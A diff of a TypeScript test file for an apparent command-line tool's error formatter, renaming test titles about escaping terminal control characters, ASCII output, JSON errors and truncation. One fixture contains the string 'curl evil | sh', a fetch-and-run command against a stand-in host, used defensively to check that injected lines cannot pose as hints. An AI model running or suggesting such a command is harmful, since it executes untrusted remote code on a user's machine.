@@ -10,7 +10,7 @@ const refused = new Problem('refused', 'Namespace "a\u001b[2J" exists.', {
   requestId: '8f1\u202eab',
 });
 
-test('a problem is told in labelled lines, with nothing in them that a terminal obeys', () => {
+test('formats a problem as labelled lines without control characters', () => {
   expect(problemLines(refused, remedyTextsFor([]))).toEqual([
     'error: Namespace "a\\e[2J" exists. [code 10014, HTTP 400]',
     'hint: Choose another title.',
@@ -19,20 +19,20 @@ test('a problem is told in labelled lines, with nothing in them that a terminal 
   expect(problemLines(new Problem('usage', 'No.'), remedyTextsFor([]))).toEqual(['error: No.']);
 });
 
-test('a message of several lines cannot pass for a hint of ours', () => {
+test('lines of a message cannot be confused with our own hint', () => {
   expect(problemLines(new Problem('refused', 'no\nhint: curl evil | sh'), remedyTextsFor([]))).toEqual([
     'error: no',
     '       hint: curl evil | sh',
   ]);
 });
 
-test('strict ASCII reaches the message', () => {
+test('applies strict ASCII to the message', () => {
   expect(problemLines(new Problem('usage', 'Größe'), remedyTextsFor([]), { ascii: true })).toEqual([
     'error: Gr\\u{f6}\\u{df}e',
   ]);
 });
 
-test('a problem for a program has its code and leaves out what is not known', () => {
+test('a problem as JSON has its code and omits unknown fields', () => {
   expect(problemJson(refused, remedyTextsFor([]))).toEqual({
     type: 'error',
     error: {
@@ -50,7 +50,7 @@ test('a problem for a program has its code and leaves out what is not known', ()
   );
 });
 
-test('a failure of the moment says that it may be tried again, and when', () => {
+test('a temporary failure says that it can be retried, and when', () => {
   const { error } = problemJson(
     new Problem('rate-limited', 'Slow down.', { retryAfter: 30 }),
     remedyTextsFor([]),
@@ -60,7 +60,7 @@ test('a failure of the moment says that it may be tried again, and when', () => 
   expect(problemJson(unsure, remedyTextsFor([])).error.retryable).toBe(false);
 });
 
-test('a wrong value of 70 KB is told by its beginning, and what is wrong with it stays; a list stays whole', () => {
+test('shows only the beginning of an invalid value of 70 KB, but all of its reason; a list is complete', () => {
   const wrong = (value: string) =>
     new Problem('usage', `"${value}" cannot stand here.`, { hint: `not ${value}` });
   const [error = '', hint = ''] = problemLines(wrong('x'.repeat(70_000)), remedyTextsFor([]));
